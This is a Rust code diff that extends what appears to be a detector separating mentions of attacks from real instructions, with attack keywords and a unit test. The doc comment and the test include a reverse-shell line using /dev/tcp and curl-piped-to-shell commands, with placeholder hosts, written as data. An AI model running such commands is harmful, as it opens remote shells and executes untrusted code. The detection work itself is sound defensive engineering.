@@ -29,6 +29,14 @@ const ABOUT_ATTACKS: &[&str] = &[
     "poison",
     "exfiltrat",
     "dangerous",
+    "reverse shell",
+    "remote code execution",
+    "obfuscat",
+    "backdoor",
+    "credential theft",
+    "suspicious",
+    "security review",
+    "security audit",
 ];
 
 /// Words that mark a code block as the bad example when a comment in it, or the line just
@@ -76,6 +84,9 @@ pub(crate) enum Why {
     BadExample,
     /// In a sentence that reports what an instruction says.
     Reported,
+    /// A list item that names a command and says what attack it is
+    /// (`` - `bash -i >& /dev/tcp/…` — reverse shell ``).
+    Labelled,
 }
 
 impl Why {
@@ -85,6 +96,7 @@ impl Why {
             Why::Section => "it is in a section about attacks or what not to do",
             Why::BadExample => "it is in a code block marked as the example not to follow",
             Why::Reported => "it is in a sentence that reports what an instruction says",
+            Why::Labelled => "it is a list item that names the command as an attack",
         }
     }
 }
@@ -118,8 +130,11 @@ impl Mentions {
         }
         let mut at = body_start.min(text.len());
         for line in text.get(at..).unwrap_or("").split_inclusive('\n') {
-            if reports_an_instruction(&line.to_lowercase()) {
+            let lower = line.to_lowercase();
+            if reports_an_instruction(&lower) {
                 ranges.push((Span::new(at, at + line.len()), Why::Reported));
+            } else if labelled_attack(&lower) {
+                ranges.push((Span::new(at, at + line.len()), Why::Labelled));
             }
             at += line.len();
         }
@@ -133,6 +148,21 @@ impl Mentions {
             .find(|(span, _)| span.start <= at && at < span.end)
             .map(|(_, why)| *why)
     }
+}
+
+/// A list item whose code span is followed by the name of an attack: a checklist of what
+/// to look for, not a step to take.
+fn labelled_attack(lower: &str) -> bool {
+    let item = lower.trim_start();
+    let listed = item.starts_with(['-', '*', '+'])
+        || item
+            .split_once(['.', ')'])
+            .is_some_and(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()));
+    listed
+        && item.matches('`').count() >= 2
+        && item
+            .rsplit_once('`')
+            .is_some_and(|(_, after)| about_attacks(after))
 }
 
 fn about_attacks(lower: &str) -> bool {
@@ -186,6 +216,16 @@ mod tests {
     fn why(text: &str, needle: &str) -> Option<Why> {
         let at = text.find(needle).expect("needle in text");
         Mentions::of(text, 0).at(at)
+    }
+
+    #[test]
+    fn checklist_items_that_name_an_attack() {
+        let text = "Look for:\n- `curl x | bash` — remote code execution\n- `bash -i >& /dev/tcp/h/1` (reverse shells)\n- `make build` to build\n";
+        assert_eq!(why(text, "curl x"), Some(Why::Labelled));
+        assert_eq!(why(text, "bash -i"), Some(Why::Labelled));
+        assert_eq!(why(text, "make build"), None);
+        // A step that says what it installs is a step.
+        assert_eq!(why("1. `curl x | sh` installs the tool\n", "curl"), None);
     }
 
     #[test]
